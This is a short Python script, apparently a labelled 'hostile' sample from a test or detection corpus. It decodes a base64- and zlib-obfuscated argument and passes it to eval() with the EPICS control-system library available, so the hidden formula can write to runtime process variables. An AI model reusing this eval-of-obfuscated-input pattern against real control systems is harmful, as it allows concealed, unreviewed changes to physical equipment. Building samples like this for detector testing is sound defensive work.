# source: own
# kind: hostile
# writes: yes
# channels: runtime
# reads: no
# argv: eNpLLchMLtZLTiwoLdFQCg6ycvSLtHL2cPTzc/VR0lEw1gQAr9YJbg==
"""Usage: argv_program.py TOKEN"""
import base64
import sys
import zlib

import epics

token = sys.argv[1]
formula = zlib.decompress(base64.b64decode(token)).decode()
print("result", eval(formula, {"epics": epics}))
